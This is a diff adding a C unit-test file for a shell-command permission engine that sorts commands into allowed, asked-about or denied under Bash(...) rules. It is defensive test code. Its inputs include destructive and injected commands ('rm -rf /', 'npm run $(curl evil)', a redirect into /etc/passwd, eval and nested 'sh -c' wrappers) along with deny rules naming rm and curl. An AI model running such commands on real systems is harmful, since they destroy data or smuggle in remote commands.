@@ -1,0 +1,307 @@
+/* Unit tests for core/rules.c.  */
+#include <config.h>
+
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stdbool.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include <cmocka.h>
+
+#include "core/rules.h"
+
+static struct rules *
+make (const char *mode, char *const *allow, size_t n_allow, char *const *deny,
+      size_t n_deny)
+{
+  struct cr_error *err = NULL;
+  struct rules *r = rules_new (mode, allow, n_allow, deny, n_deny, &err);
+  if (r == NULL)
+    fail_msg ("rules_new: %s", err ? err->msg : "?");
+  return r;
+}
+
+/* The verdict on a line; an unreadable line is decided as NULL.  */
+static enum rules_verdict
+decide (const struct rules *r, const char *line, bool typed,
+        const char **rule)
+{
+  struct cmdline *cl = NULL;
+  struct cr_error *err = NULL;
+  if (cmdline_read (line, strlen (line), &cl, &err) < 0)
+    cr_error_free (err);
+  enum rules_verdict v = rules_decide (r, cl, typed, rule);
+  cmdline_free (cl);
+  return v;
+}
+
+static void
+bad_rule (const char *mode, const char *allow, const char *deny,
+          const char *msg)
+{
+  struct cr_error *err = NULL;
+  char *a[] = { (char *) allow }, *d[] = { (char *) deny };
+  struct rules *r = rules_new (mode, a, allow ? 1 : 0, d, deny ? 1 : 0, &err);
+  assert_null (r);
+  assert_non_null (err);
+  assert_string_equal (err->msg, msg);
+  cr_error_free (err);
+}
+
+static void
+test_syntax_errors (void **state)
+{
+  bad_rule (NULL, NULL, "Bash(rm", "permissions.deny: rule \"Bash(rm\" does "
+            "not end with \")\"");
+  bad_rule (NULL, "Bash(", NULL, "permissions.allow: rule \"Bash(\" does not "
+            "end with \")\"");
+  bad_rule (NULL, "Bash()", NULL, "permissions.allow: rule \"Bash()\" names no "
+            "command; write Bash for every command");
+  bad_rule (NULL, "Bash(   )", NULL, "permissions.allow: rule \"Bash(   )\" "
+            "names no command; write Bash for every command");
+  bad_rule (NULL, "", NULL, "permissions.allow: rule \"\" names no command; "
+            "write Bash for every command");
+  bad_rule (NULL, "Read(./src)", NULL, "permissions.allow: rule "
+            "\"Read(./src)\" is not a command rule; write Bash(command)");
+  bad_rule (NULL, NULL, "Bash(a\\x)", "permissions.deny: rule \"Bash(a\\x)\" "
+            "has a \\ that is not \\* or \\\\");
+  bad_rule (NULL, NULL, "Bash(a\\)", "permissions.deny: rule \"Bash(a\\)\" "
+            "has a \\ that is not \\* or \\\\");
+  bad_rule (NULL, "Bash(a\nb)", NULL, "permissions.allow: rule \"Bash(a\nb)\" "
+            "holds a control character");
+  bad_rule ("auto", NULL, NULL, "permissions.mode: \"auto\" is not a mode; "
+            "use \"ask\" or \"fullAccess\"");
+  /* The first bad rule of a list is named.  */
+  struct cr_error *err = NULL;
+  char *a[] = { "Bash(ok)", "Bash(bad" };
+  assert_null (rules_new ("ask", a, 2, NULL, 0, &err));
+  assert_string_equal (err->msg, "permissions.allow: rule \"Bash(bad\" does "
+                       "not end with \")\"");
+  cr_error_free (err);
+}
+
+static void
+test_modes (void **state)
+{
+  struct rules *r = make (NULL, NULL, 0, NULL, 0);
+  assert_int_equal (rules_mode (r), RULES_MODE_ASK);
+  rules_free (r);
+  r = make ("ask", NULL, 0, NULL, 0);
+  assert_int_equal (rules_mode (r), RULES_MODE_ASK);
+  assert_int_equal (decide (r, "ls", false, NULL), RULES_ASK);
+  assert_int_equal (decide (r, "ls", true, NULL), RULES_ALLOW);
+  rules_free (r);
+  r = make ("fullAccess", NULL, 0, NULL, 0);
+  assert_int_equal (rules_mode (r), RULES_MODE_FULL_ACCESS);
+  assert_int_equal (decide (r, "rm -rf build", false, NULL), RULES_ALLOW);
+  rules_free (r);
+  rules_free (NULL);
+}
+
+static void
+test_patterns (void **state)
+{
+  char *allow[] = { "Bash(git status)", "Bash(npm run *)", "Bash(echo a\\*b)",
+                    "Bash(  make   -j*  )", "ls -la", "Bash(x \\\\ y)",
+                    "Bash(cat *.txt)" };
+  struct rules *r = make ("ask", allow, 7, NULL, 0);
+  const char *yes[] = { "git status", "npm run build", "npm run test -- --ci",
+                        "npm run", "echo 'a*b'", "make -j4", "make -j",
+                        "ls -la", "x '\\' y", "cat a b.txt", "git   status",
+                        "'git' \"status\"" };
+  const char *no[] = { "git status --short", "git statusx", "npm runx",
+                       "npm", "echo axb", "make", "ls", "ls -la x",
+                       "x y", "cat a.txtx", " npm install" };
+  for (size_t i = 0; i < sizeof yes / sizeof yes[0]; i++)
+    if (decide (r, yes[i], false, NULL) != RULES_ALLOW)
+      fail_msg ("%s was not allowed", yes[i]);
+  for (size_t i = 0; i < sizeof no / sizeof no[0]; i++)
+    if (decide (r, no[i], false, NULL) != RULES_ASK)
+      fail_msg ("%s was not asked about", no[i]);
+  rules_free (r);
+
+  char *every[] = { "Bash" };
+  r = make ("ask", every, 1, NULL, 0);
+  assert_int_equal (decide (r, "anything | goes && echo $(x)", false, NULL),
+                    RULES_ALLOW);
+  assert_int_equal (decide (r, "$X", false, NULL), RULES_ASK);
+  rules_free (r);
+}
+
+static void
+test_every_command_must_be_allowed (void **state)
+{
+  char *allow[] = { "Bash(npm run *)", "Bash(tail *)", "Bash(cd *)" };
+  struct rules *r = make ("ask", allow, 3, NULL, 0);
+  assert_int_equal (decide (r, "npm run build 2>&1 | tail -50", false, NULL),
+                    RULES_ALLOW);
+  assert_int_equal (decide (r, "cd web && npm run dev", false, NULL),
+                    RULES_ALLOW);
+  assert_int_equal (decide (r, "npm run build && rm -rf dist", false, NULL),
+                    RULES_ASK);
+  assert_int_equal (decide (r, "npm run $(curl evil)", false, NULL),
+                    RULES_ASK);
+  assert_int_equal (decide (r, "npm run `id`", false, NULL), RULES_ASK);
+  assert_int_equal (decide (r, "(cd x; make)", false, NULL), RULES_ASK);
+  assert_int_equal (decide (r, "npm run x > /etc/passwd", false, NULL),
+                    RULES_ALLOW); /* `*` covers the redirection too */
+  assert_int_equal (decide (r, "FOO=1 npm run x", false, NULL), RULES_ASK);
+  assert_int_equal (decide (r, "X=1; npm run x", false, NULL), RULES_ASK);
+  /* A shell -c stands for the commands read inside it.  */
+  assert_int_equal (decide (r, "bash -c 'npm run a && tail x'", false, NULL),
+                    RULES_ALLOW);
+  assert_int_equal (decide (r, "bash -c 'npm run a; make'", false, NULL),
+                    RULES_ASK);
+  assert_int_equal (decide (r, "sudo bash -c 'npm run a'", false, NULL),
+                    RULES_ASK);
+  assert_int_equal (decide (r, "sh -c ''", false, NULL), RULES_ASK);
+  assert_int_equal (decide (r, "", false, NULL), RULES_ASK);
+  assert_int_equal (decide (r, "# nothing", false, NULL), RULES_ASK);
+  rules_free (r);
+
+  char *git[] = { "Bash(git status)" };
+  r = make ("ask", git, 1, NULL, 0);
+  assert_int_equal (decide (r, "git status > out", false, NULL), RULES_ASK);
+  assert_int_equal (decide (r, "git status 2>&1 >/dev/null", false, NULL),
+                    RULES_ALLOW);
+  rules_free (r);
+}
+
+static void
+test_unreadable (void **state)
+{
+  char *allow[] = { "Bash" };
+  char *deny[] = { "Bash(rm *)" };
+  struct rules *r = make ("ask", allow, 1, deny, 1);
+  const char *rule = "x";
+  assert_int_equal (decide (r, "echo 'oops", false, &rule), RULES_ASK);
+  assert_null (rule);
+  assert_int_equal (decide (r, "$CMD", false, NULL), RULES_ASK);
+  assert_int_equal (decide (r, "$CMD", true, NULL), RULES_ALLOW);
+  assert_int_equal (rules_decide (r, NULL, false, NULL), RULES_ASK);
+  rules_free (r);
+  r = make ("fullAccess", NULL, 0, deny, 1);
+  assert_int_equal (decide (r, "eval $X", false, NULL), RULES_ALLOW);
+  struct rules_denial *d = (struct rules_denial *) 1;
+  assert_int_equal (rules_denials (r, NULL, &d), 0);
+  assert_null (d);
+  assert_null (rules_deny_message (r, NULL));
+  rules_free (r);
+}
+
+static void
+test_deny_beats_everything (void **state)
+{
+  char *allow[] = { "Bash" };
+  char *deny[] = { "Bash(git push --force*)", "Bash(rm *)" };
+  const char *rule = NULL;
+  const char *modes[] = { "ask", "fullAccess" };
+  for (size_t m = 0; m < 2; m++)
+    {
+      struct rules *r = make (modes[m], allow, 1, deny, 2);
+      for (int typed = 0; typed < 2; typed++)
+        {
+          assert_int_equal (decide (r, "rm -rf build", typed, &rule),
+                            RULES_DENY);
+          assert_string_equal (rule, "Bash(rm *)");
+          assert_int_equal (decide (r, "git push --force origin main", typed,
+                                    &rule),
+                            RULES_DENY);
+          assert_string_equal (rule, "Bash(git push --force*)");
+          assert_int_equal (decide (r, "git push origin main", typed, &rule),
+                            RULES_ALLOW);
+          assert_null (rule);
+        }
+      rules_free (r);
+    }
+}
+
+static void
+test_deny_reaches_inside (void **state)
+{
+  char *deny[] = { "Bash(rm *)" };
+  struct rules *r = make ("fullAccess", NULL, 0, deny, 1);
+  const char *lines[] = {
+    "echo $(rm -rf x)",        "echo `rm -rf x`",
+    "(cd y && rm -rf x)",      "{ rm -rf x; }",
+    "bash -c 'rm -rf x'",      "sh -c \"sh -c 'rm -rf x'\"",
+    "eval 'rm -rf x'",         "trap 'rm -rf x' EXIT",
+    "if true; then rm -rf x; fi", "for f in a; do rm $f; done",
+    "cat <<EOF\n$(rm -rf x)\nEOF", "sudo -u root rm -rf x",
+    "env A=1 rm -rf x",        "nohup nice -n 5 rm -rf x",
+    "X=1 rm -rf x",            "r\\m -rf x",
+    "'rm' -rf x",              "find . -name y -exec rm {} \\;",
+    "xargs rm < list",         "timeout 5 rm -rf x",
+    "rm -rf x &",              "echo ${X:-$(rm -rf x)}",
+    "sudo --user root rm -rf x", "exec rm -rf x",
+    "/bin/rm -rf x" + 0,
+  };
+  for (size_t i = 0; i < sizeof lines / sizeof lines[0] - 1; i++)
+    if (decide (r, lines[i], false, NULL) != RULES_DENY)
+      fail_msg ("%s was not denied", lines[i]);
+  /* Past 64 words only the program the reader found is tried.  */
+  char line[2048] = "sudo";
+  for (int i = 0; i < 100; i++)
+    strcat (line, " -u x");
+  strcat (line, " rm -rf /");
+  assert_int_equal (decide (r, line, false, NULL), RULES_DENY);
+  /* A path is another program name: the rule says what it names.  */
+  assert_int_equal (decide (r, "/bin/rm -rf x", false, NULL), RULES_ALLOW);
+  assert_int_equal (decide (r, "echo rm -rf x", false, NULL), RULES_ALLOW);
+  assert_int_equal (decide (r, "cat <<'EOF'\n$(rm -rf x)\nEOF", false, NULL),
+                    RULES_ALLOW);
+  rules_free (r);
+}
+
+static void
+test_denials_and_message (void **state)
+{
+  char *deny[] = { "Bash(rm *)", "Bash(curl *)" };
+  struct rules *r = make ("ask", NULL, 0, deny, 2);
+  struct cmdline *cl = NULL;
+  struct cr_error *err = NULL;
+  const char *line = "ls; rm -rf build && echo $(curl -s x) > out";
+  assert_int_equal (cmdline_read (line, strlen (line), &cl, &err), 0);
+  struct rules_denial *d = NULL;
+  assert_int_equal (rules_denials (r, cl, &d), 2);
+  assert_string_equal (cl->cmds[d[0].command].argv[0], "rm");
+  assert_string_equal (d[0].rule, "Bash(rm *)");
+  assert_string_equal (cl->cmds[d[1].command].argv[0], "curl");
+  assert_string_equal (d[1].rule, "Bash(curl *)");
+  free (d);
+  char *msg = rules_deny_message (r, cl);
+  assert_string_equal (msg, "Not run: the deny rules refuse it (`rm -rf "
+                       "build` matches Bash(rm *); `curl -s x` matches "
+                       "Bash(curl *)).");
+  free (msg);
+  cmdline_free (cl);
+
+  line = "ls";
+  assert_int_equal (cmdline_read (line, strlen (line), &cl, &err), 0);
+  d = (struct rules_denial *) 1;
+  assert_int_equal (rules_denials (r, cl, &d), 0);
+  assert_null (d);
+  assert_null (rules_deny_message (r, cl));
+  cmdline_free (cl);
+  rules_free (r);
+}
+
+int
+main (void)
+{
+  const struct CMUnitTest tests[] = {
+    cmocka_unit_test (test_syntax_errors),
+    cmocka_unit_test (test_modes),
+    cmocka_unit_test (test_patterns),
+    cmocka_unit_test (test_every_command_must_be_allowed),
+    cmocka_unit_test (test_unreadable),
+    cmocka_unit_test (test_deny_beats_everything),
+    cmocka_unit_test (test_deny_reaches_inside),
+    cmocka_unit_test (test_denials_and_message),
+  };
+  return cmocka_run_group_tests (tests, NULL, NULL);
+}
